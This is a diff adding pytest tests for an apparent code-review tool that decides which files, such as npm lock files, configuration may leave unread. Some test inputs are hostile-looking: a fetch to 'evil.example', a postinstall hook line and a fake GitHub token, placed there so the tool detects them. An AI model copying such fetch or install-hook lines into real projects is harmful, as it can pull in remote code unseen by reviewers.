@@ -1,0 +1,207 @@
+"""Which files ``exclude`` leaves unread: only what the base has under the same name, and never what must be read."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import replace
+from typing import Any
+
+import pytest
+from tests.attacks.lock_files import bumped, changed, npm, old
+from tests.scenarios.reading import is_shown, shown
+
+from review_advisor.core.facts.change import Change, FileChange, Hunk, Status
+from review_advisor.core.facts.earlier_review import Earlier, EarlierFinding
+from review_advisor.core.facts.files.critical import CriticalPaths
+from review_advisor.core.forge_text.conclusion import title_of
+from review_advisor.core.outcome.document import OutcomeDocument
+from review_advisor.core.outcome.events import PolicyFrozen
+from review_advisor.core.outcome.outcomes import Outcome
+from review_advisor.core.outcome.own_facts import OwnFacts, contradiction
+from review_advisor.core.outcome.soundness import unsound
+from review_advisor.core.policy.exclusion import Exclusion, excluding_glob
+from review_advisor.core.policy.policy import Rules, left_unread
+from review_advisor.core.policy.surfaces import Role
+from review_advisor.core.report.report_text import report_text
+from review_advisor.core.safety.shown_change import hunks_with_secrets
+from review_advisor.mockworld.world import DEFAULT_CHANGE, MockWorld
+
+PATH = "web/package-lock.json"
+HEAD = npm(bumped)
+FILE = changed(PATH, npm(old), HEAD)
+TOKEN = "ghp_" + "Zq3nL0vXw8RtY2uB6mKd9sHf4jGc1aEe5oPi"
+
+
+@pytest.fixture
+def world() -> Iterator[MockWorld]:
+    world = MockWorld()
+    yield world
+    world.finish()
+
+
+def decided(file: FileChange = FILE, rules: Rules | None = None, head: str | None = HEAD, **about: Any) -> Exclusion:
+    change = replace(Change("x", files=(file,)), **about)
+    return left_unread(change, rules or Rules(), lambda _path: head, hunks_with_secrets)
+
+
+def why(*args: Any, **about: Any) -> str:
+    excluded = decided(*args, **about)
+    assert excluded.files == ()
+    return "; ".join(each.why for each in excluded.read_anyway)
+
+
+def review(world: MockWorld, *files: FileChange, **texts: str) -> OutcomeDocument:
+    world.source.stated = replace(DEFAULT_CHANGE, files=files)
+    world.source.texts = texts or {PATH: HEAD}
+    return world.review()
+
+
+def test_a_lock_file_that_the_base_has_is_left_unread() -> None:
+    (file,) = decided().files
+    assert (file.path, file.glob, file.ecosystem) == (PATH, "package-lock.json", "npm")
+    assert (file.added, file.removed) == (FILE.added, FILE.removed)
+
+
+@pytest.mark.parametrize(
+    "file,because",
+    [
+        (replace(FILE, status=Status.ADDED, old_mode="000000"), "it is added"),
+        (replace(FILE, status=Status.RENAMED, old_path="other/package-lock.json"), "it is renamed"),
+        (replace(FILE, status=Status.COPIED, old_path="other/package-lock.json"), "it is copied"),
+        (replace(FILE, status=Status.DELETED, new_mode="000000"), "it is deleted"),
+        (replace(FILE, status=Status.TYPE_CHANGED, new_mode="120000"), "it is type_changed"),
+        (replace(FILE, new_mode="100755"), "no regular file on both sides, or its mode"),
+        (replace(FILE, old_mode="100755", new_mode="100755"), "no regular file on both sides, or its mode"),
+        (replace(FILE, old_mode="120000", new_mode="120000"), "no regular file on both sides"),
+        (replace(FILE, old_mode="160000", new_mode="160000"), "no regular file on both sides"),
+        (replace(FILE, binary=True, hunks=()), "it has no lines that can be compared"),
+        (replace(FILE, path='we"b/package-lock.json'), "its name holds unusual characters"),
+    ],
+)
+def test_only_a_regular_text_file_that_stands_on_both_sides_is_left_unread(file: FileChange, because: str) -> None:
+    assert because in why(file)
+
+
+def test_what_is_critical_or_watched_by_the_guard_is_read() -> None:
+    assert "a critical path" in why(rules=Rules(critical_paths=CriticalPaths(globs=("web/",))))
+    assert "the guard watches" in why(rules=Rules(config_path=PATH))
+    assert "a critical path" in why(replace(FILE, path="auth/package-lock.json"))
+
+
+def test_a_file_with_an_open_finding_is_read() -> None:
+    known = EarlierFinding(id="f" * 20, path=PATH, line=1, severity="high", title="x", status="open")
+    earlier = Earlier(
+        "a" * 40, "b" * 40, "", complete=True, is_ancestor=True, paths=frozenset((PATH,)), findings=(known,)
+    )
+    assert why(earlier=earlier) == "a finding on it is open"
+    gone = replace(earlier, findings=(replace(known, status="dismissed"),))
+    assert decided(earlier=gone).files
+
+
+def test_without_the_whole_text_a_file_is_read() -> None:
+    assert why(head=None) == "its whole text cannot be had"
+    assert "not the one that the diff leads to" in why(head=npm(old))
+    assert "it is not written as npm writes it" in why(
+        changed(PATH, npm(old), HEAD.replace("\n", "\r\n")), head=HEAD.replace("\n", "\r\n")
+    )
+
+
+def test_two_files_of_one_name_are_read() -> None:
+    change = Change("x", files=(FILE, FILE))
+    assert left_unread(change, Rules(), lambda _path: HEAD, hunks_with_secrets).files == ()
+
+
+def test_more_new_packages_than_can_be_told_are_read() -> None:
+    few, many = npm(old, 2), npm(old, 1_500)
+    assert "more than can be told" in why(changed(PATH, few, many), head=many)
+    some = npm(old, 200)
+    (file,) = decided(changed(PATH, few, some), head=some).files
+    assert len(file.brings.packages) == 198
+    assert file.brings.packages[0] == "pkg-3 1.0.0"
+
+
+def test_globs_are_matched_as_gitignore_does_and_as_they_are_spelled() -> None:
+    assert excluding_glob(("package-lock.json",), PATH) == "package-lock.json"
+    assert excluding_glob(("/package-lock.json",), PATH) is None
+    assert excluding_glob(("*.json", "!web/*.json"), "web/a.json") is None
+    assert excluding_glob(("package-lock.json",), "web/Package-Lock.JSON") is None
+    assert excluding_glob((), PATH) is None
+
+
+def test_an_empty_list_reads_everything_as_before(world: MockWorld) -> None:
+    world.rules = replace(world.rules, exclude=())
+    document = review(world, FILE)
+    assert [each.read for each in document.coverage] == ["read"]
+    (call,) = world.calls(Role.EXECUTOR)
+    assert '+      "version": "1.1.0",' in shown(call, "DIFF")
+    assert not is_shown(call, "NOT_READ")
+
+
+def test_a_change_of_nothing_else_is_reviewed_by_its_facts(world: MockWorld) -> None:
+    document = review(world, FILE)
+    assert document.outcome is Outcome.APPROVED
+    assert unsound(document.events) is None
+    assert f"{PATH} was not read: excluded by configuration" in " ".join(report_text(document).split())
+    (call,) = world.calls(Role.EXECUTOR)
+    assert "hosts in added lines: npm.example" in shown(call, "NOT_READ")
+    assert len(call.prompt) < 6_000
+
+
+def test_other_files_are_left_unread_only_by_choice_and_the_title_names_them(world: MockWorld) -> None:
+    base = "\n".join(f"value = {n}" for n in range(400)) + "\n"
+    head = base.replace("value", "other")
+    made = changed("src/Made.py", base, head)
+    document = review(world, made, **{"src/Made.py": head})
+    assert document.policy.code_lines == made.changed_lines
+    world.rules = replace(world.rules, exclude=("src/Made.py",))
+    document = review(world, made, **{"src/Made.py": head})
+    assert document.policy.code_lines == 0
+    assert title_of(document) == "Approved (not read by configuration: src/Made.py)"
+
+
+@pytest.mark.parametrize(
+    "line", ["fetch('https://evil.example/x')", "  postinstall: 'x'", "git+ssh://git@github.com/a/b", "x = '\\u002f'"]
+)
+def test_of_any_excluded_file_the_lines_are_read_that_fetch_something(line: str) -> None:
+    base = "".join(f"value = {n}\n" for n in range(400))
+    head = base.replace("value = 10\n", "other\n").replace("value = 300\n", f"{line}\n")
+    rules = Rules(exclude=("src/made.py",))
+    (file,) = decided(changed("src/made.py", base, head), rules, head).files
+    assert (file.hunks, file.brings.read) == (2, (1,))
+
+
+def test_a_secret_in_an_excluded_file_is_read_and_hidden(world: MockWorld) -> None:
+    head = HEAD.replace('"license": "MIT"', f'"deprecated": "token {TOKEN}"', 1)
+    document = review(world, changed(PATH, npm(old), head), **{PATH: head})
+    (file,) = document.policy.excluded.files
+    assert "something in it looks like a secret" in file.brings.doubts
+    assert any("what looks like a secret" in words and PATH in words for words in document.cut)
+    for call in world.calls(Role.EXECUTOR):
+        assert TOKEN not in call.prompt
+        assert "token" in shown(call, "DIFF")
+
+
+def frozen(document: OutcomeDocument) -> PolicyFrozen:
+    first = document.events[0]
+    assert isinstance(first, PolicyFrozen)
+    return first
+
+
+def test_an_outcome_that_excludes_what_it_may_not_is_refused(world: MockWorld) -> None:
+    document = review(world, FILE)
+    first = frozen(document)
+    rest = document.events[1:]
+    assert unsound(document.events) is None
+    added = replace(first, files=tuple(replace(each, status=Status.ADDED) for each in first.files))
+    assert "not the same regular file" in str(unsound([added, *rest]))
+    other = replace(first, policy=replace(first.policy, excluded=Exclusion(first.policy.excluded.globs)))
+    assert "excludes other files" in str(unsound([other, *rest]))
+    known = OwnFacts((PATH,), Rules(), (), fail_as_veto=False, redact=str, modified=(PATH,))
+    assert contradiction(first, known) is None
+    for milder in (replace(known, modified=()), replace(known, rules=Rules(exclude=()))):
+        assert "which the configuration does not exclude" in str(contradiction(first, milder))
+
+
+def test_a_lock_file_alone_is_no_reason_to_call_a_review_incomplete(world: MockWorld) -> None:
+    document = review(world, FILE, FileChange(Status.MODIFIED, "a.py", added=1, hunks=(Hunk(1, 0, 1, 1, "", ("+x",)),)))
+    assert [each.read for each in document.coverage] == ["excluded", "read"]
